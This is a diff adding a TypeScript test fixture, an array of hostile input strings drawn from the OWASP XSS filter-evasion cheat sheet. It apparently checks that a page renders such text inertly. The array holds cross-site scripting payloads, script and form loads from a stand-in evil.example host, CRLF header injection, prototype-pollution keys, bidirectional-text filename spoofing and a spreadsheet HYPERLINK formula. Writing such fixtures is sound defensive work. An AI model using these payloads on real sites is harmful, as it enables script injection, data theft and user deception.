@@ -1,0 +1,46 @@
+/*
+ * Texts that run a script, or disguise themselves, where a page takes them for more than text.
+ * https://owasp.org/www-community/xss-filter-evasion-cheatsheet
+ */
+
+export const hostileTexts = [
+  "<script>alert(1)</script>",
+  '"><script src="//evil.example/x.js"></script>',
+  "<img src=x onerror=alert(1)>",
+  "<svg/onload=alert(1)>",
+  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+  "<a href='javascript:alert(1)'>claim</a>",
+  "javascript:alert(1)",
+  "data:text/html,<script>alert(1)</script>",
+  "//evil.example/claim.pdf",
+  "https://evil.example/claim.pdf",
+  "../../console?code=1&state=2",
+  "' onfocus=alert(1) autofocus='",
+  "</title><script>alert(1)</script>",
+  "</textarea><script>alert(1)</script>",
+  "<!--<script>alert(1)//-->",
+  "<style>*{background:url(//evil.example)}</style>",
+  "<meta http-equiv=refresh content='0;url=//evil.example'>",
+  "<base href='//evil.example/'>",
+  "<form action=//evil.example><input name=a></form>",
+  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+  "&lt;script&gt;alert(1)&lt;/script&gt;",
+  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+  "{{constructor.constructor('alert(1)')()}}",
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text is not a template.
+  "${alert(1)}",
+  "__proto__",
+  "constructor",
+  "toString",
+  "[object Object]",
+  "claim\u202Efdp.exe",
+  "\u2066\u2067\u2068claim\u2069.pdf",
+  "claim\u0000.pdf",
+  "claim\r\nSet-Cookie: a=b",
+  "\u001b]0;claim\u0007",
+  "\u200b\u200b",
+  "\ud800",
+  `Z\u0351\u0334\u0301${"\u0315".repeat(200)}`,
+  "a".repeat(5000),
+  '=HYPERLINK("//evil.example")',
+];
